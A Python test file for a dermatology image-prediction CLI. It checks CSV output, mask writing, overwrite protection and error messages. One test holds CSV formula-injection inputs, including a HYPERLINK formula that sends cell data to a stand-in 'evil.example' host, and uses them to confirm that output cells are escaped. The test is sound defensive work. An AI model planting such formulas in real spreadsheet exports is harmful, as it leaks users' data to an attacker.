"""`dermnet predict`: files, folders and lists of images in, one row per image out."""

import json
import os

import cv2
import keras
import numpy as np
import pandas as pd
import pytest

import dermnet
from dermnet import cli
from dermnet.data import read_image
from dermnet.serving import resize_bicubic


def images_on_disk(root, sizes=((40, 56), (48, 48), (33, 70))):
    """Three PNGs of different sizes: one at the top, one in a subfolder, one only named by a CSV."""
    rng = np.random.default_rng(0)
    paths = [root / "a.png", root / "sub" / "b.png", root / "listed" / "c.png"]
    for path, size in zip(paths, sizes):
        path.parent.mkdir(parents=True, exist_ok=True)
        cv2.imwrite(str(path), rng.integers(0, 256, (*size, 3), dtype=np.uint8))
    pd.DataFrame({"image": ["c.png"]}).to_csv(root / "listed" / "list.csv", index=False)
    return paths


def saved_run(model, folder, classes):
    folder.mkdir()
    model.save(folder / "model.keras")
    (folder / "config.json").write_text(json.dumps({"classes": classes}))
    return folder


def test_a_classifier_gives_each_image_its_probabilities_and_class(tmp_path):
    model = dermnet.build("baseline_cnn", num_classes=3, input_shape=(32, 32, 3))
    run = saved_run(model, tmp_path / "run", ["nevus", "melanoma", "keratosis"])
    images = tmp_path / "images"
    paths = images_on_disk(images)
    out = tmp_path / "predictions.csv"
    assert (
        cli.main(
            [
                "predict",
                str(run),
                str(images / "a.png"),
                str(images / "sub"),
                str(images / "listed" / "list.csv"),
                "--out",
                str(out),
            ]
        )
        == 0
    )
    table = pd.read_csv(out)
    assert list(table.columns) == ["image_id", "image", "predicted", "p_nevus", "p_melanoma", "p_keratosis"]
    assert list(table["image"]) == [str(p) for p in paths] and list(table["image_id"]) == ["a", "b", "c"]
    expected = model.predict(np.stack([resize_bicubic(read_image(p), (32, 32)) for p in paths]), verbose=0)
    np.testing.assert_allclose(
        table[["p_nevus", "p_melanoma", "p_keratosis"]].to_numpy(), expected, atol=1e-6
    )
    assert list(table["predicted"]) == [
        ["nevus", "melanoma", "keratosis"][k] for k in expected.argmax(axis=1)
    ]
    assert cli.main(["predict", str(run), str(images), "--tta", "3", "--out", str(out), "--overwrite"]) == 0
    np.testing.assert_allclose(pd.read_csv(out).filter(like="p_").sum(axis=1), 1.0, atol=1e-5)  # pooled views


def test_predictions_go_into_the_run_folder_and_replace_nothing_unasked(tmp_path, capsys):
    run = saved_run(
        dermnet.build("baseline_cnn", num_classes=2, input_shape=(32, 32, 3)),
        tmp_path / "run",
        ["benign", "malignant"],
    )
    images_on_disk(tmp_path / "images")
    assert cli.main(["predict", str(run), str(tmp_path / "images")]) == 0
    written = (run / "predictions.csv").read_bytes()
    assert cli.main(["predict", str(run), str(tmp_path / "images" / "a.png")]) == 1
    assert "predictions.csv exists: give --overwrite" in capsys.readouterr().err
    assert (run / "predictions.csv").read_bytes() == written


def test_a_segmentor_writes_masks_at_each_images_own_size(tmp_path):
    keras.utils.set_random_seed(0)
    model = dermnet.build("unet", input_shape=(32, 32, 3), depth=2, filters=4)
    run = saved_run(model, tmp_path / "run", ["lesion"])
    paths = images_on_disk(tmp_path / "images")
    assert (
        cli.main(
            [
                "predict",
                str(run),
                str(tmp_path / "images"),
                "--out",
                str(tmp_path / "p.csv"),
                "--masks",
                str(tmp_path / "masks"),
            ]
        )
        == 0
    )
    table = pd.read_csv(tmp_path / "p.csv")
    for path, share in zip(sorted(paths), table["lesion_share"]):
        mask = cv2.imread(str(tmp_path / "masks" / f"{path.stem}_lesion.png"), cv2.IMREAD_GRAYSCALE)
        assert mask.shape == read_image(path).shape[:2] and set(np.unique(mask)) <= {0, 255}
        assert share == pytest.approx((mask > 0).mean())


def test_a_bad_image_in_a_later_batch_leaves_the_masks_folder_as_it_was(tmp_path, capsys):
    model = dermnet.build("unet", input_shape=(32, 32, 3), depth=2, filters=4)
    run = saved_run(model, tmp_path / "run", ["lesion"])
    images_on_disk(tmp_path / "images")
    (tmp_path / "images" / "z_broken.png").write_bytes(b"not an image")  # sorted last: the last batch
    (tmp_path / "masks").mkdir()
    (tmp_path / "masks" / "mine.png").write_bytes(b"a user's file")
    command = [
        "predict",
        str(run),
        str(tmp_path / "images"),
        "--out",
        str(tmp_path / "p.csv"),
        "--batch-size",
        "1",
        "--masks",
        str(tmp_path / "masks"),
    ]
    assert cli.main(command) == 1 and "z_broken.png" in capsys.readouterr().err
    assert [p.name for p in (tmp_path / "masks").iterdir()] == ["mine.png"]
    (tmp_path / "images" / "z_broken.png").unlink()
    (tmp_path / "masks" / "a_lesion.png").write_bytes(b"an earlier mask")
    assert cli.main(command) == 1 and "already holds masks of these names: " in capsys.readouterr().err
    assert (tmp_path / "masks" / "a_lesion.png").read_bytes() == b"an earlier mask"
    assert sorted(p.name for p in (tmp_path / "masks").iterdir()) == ["a_lesion.png", "mine.png"]


def test_unreadable_lists_and_model_files_are_named(tmp_path, capsys):
    model = dermnet.build("baseline_cnn", num_classes=2, input_shape=(32, 32, 3))
    model.save(tmp_path / "model.keras")
    images_on_disk(tmp_path / "images")
    (tmp_path / "list.csv").write_text('image\nimages/a.png\n""\nimages/sub/b.png\n')
    assert cli.main(["predict", str(tmp_path / "model.keras"), str(tmp_path / "list.csv")]) == 1
    assert "list.csv: no image path on lines 3" in capsys.readouterr().err
    for name, content in (
        ("cut.keras", (tmp_path / "model.keras").read_bytes()[:500]),
        ("text.keras", b"hello"),
    ):
        (tmp_path / name).write_bytes(content)
        assert cli.main(["predict", str(tmp_path / name), str(tmp_path / "images")]) == 1
        assert f"{name}: not a Keras model file" in capsys.readouterr().err


def test_a_bad_image_is_named_and_nothing_is_written(tmp_path, capsys):
    model = dermnet.build("baseline_cnn", num_classes=2, input_shape=(32, 32, 3))
    model.save(tmp_path / "model.keras")
    images_on_disk(tmp_path / "images")
    (tmp_path / "images" / "broken.png").write_bytes(b"not an image")
    assert (
        cli.main(
            [
                "predict",
                str(tmp_path / "model.keras"),
                str(tmp_path / "images"),
                "--out",
                str(tmp_path / "p.csv"),
            ]
        )
        == 1
    )
    assert "broken.png" in capsys.readouterr().err
    assert not (tmp_path / "p.csv").exists()
    with pytest.raises(SystemExit):  # argparse: images are required
        cli.main(["predict", str(tmp_path / "model.keras")])


# Spreadsheets run a cell that starts with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_predictions_csv_holds_no_cell_a_spreadsheet_would_run(tmp_path):
    """Class names and file names reach predictions.csv as text a spreadsheet shows, never runs; the
    probabilities stay numbers."""
    import csv

    classes = ['=HYPERLINK("http://evil.example/?"&A1)', "-melanoma", "@nevus"]
    model = dermnet.build("baseline_cnn", num_classes=3, input_shape=(32, 32, 3))
    run = saved_run(model, tmp_path / "run", classes)
    images = tmp_path / "images"
    images.mkdir()
    for name in ("=cmd.png", "+a.png", "-b.png", "@c.png"):
        cv2.imwrite(str(images / name), np.zeros((8, 8, 3), np.uint8))
    out = tmp_path / "predictions.csv"
    assert cli.main(["predict", str(run), str(images), "--out", str(out)]) == 0
    with open(out, newline="") as file:
        header, *rows = list(csv.reader(file))
    cells = [cell for row in rows for cell in row[:3]]  # image_id, image, predicted
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert sorted(row[0] for row in rows) == ["'+a", "'-b", "'=cmd", "'@c"]
    assert {row[2] for row in rows} <= {f"'{name}" for name in classes}
    table = pd.read_csv(out)
    assert all(table[f"p_{name}"].dtype == np.float64 for name in classes)


def test_a_csv_dermnet_wrote_reads_back_whole(tmp_path):
    """Escaped text comes back as it was where dermnet reads its own CSVs (a list of images); numbers,
    negative ones too, are never escaped."""
    from dermnet._io import read_csv, write_csv
    from dermnet.inference import image_paths

    names = ["-a.png", "=b.png", "'c.png", "''d.png", "'-e.png", "plain.png", "@f.png"]
    table = pd.DataFrame({"image": names, "score": [-0.5, 1, -2, 0, 3, -1e-9, 2], "+label": ["\tx"] * 7})
    write_csv(tmp_path / "list.csv", table)
    text = (tmp_path / "list.csv").read_text()
    assert text.startswith("image,score,'+label\n")
    assert "'-a.png,-0.5," in text and "plain.png,-1e-09," in text  # numbers never escaped
    assert [p.name for p in image_paths([tmp_path / "list.csv"])] == names
    pd.testing.assert_frame_equal(read_csv(tmp_path / "list.csv"), table)


def test_a_file_name_that_is_not_utf8_is_refused_before_the_work(tmp_path, capsys):
    run = saved_run(
        dermnet.build("baseline_cnn", num_classes=2, input_shape=(32, 32, 3)),
        tmp_path / "run",
        ["benign", "malignant"],
    )
    images_on_disk(tmp_path / "images")
    odd = os.path.join(
        os.fsencode(tmp_path / "images"), b"caf\xe9.png"
    )  # Latin-1 bytes, as old archives hold
    with open(odd, "wb") as file:
        file.write((tmp_path / "images" / "a.png").read_bytes())
    assert cli.main(["predict", str(run), str(tmp_path / "images")]) == 1
    error = capsys.readouterr().err
    assert "not valid UTF-8" in error and "caf\\udce9.png" in error and error.count("\n") == 1
    assert not (run / "predictions.csv").exists()
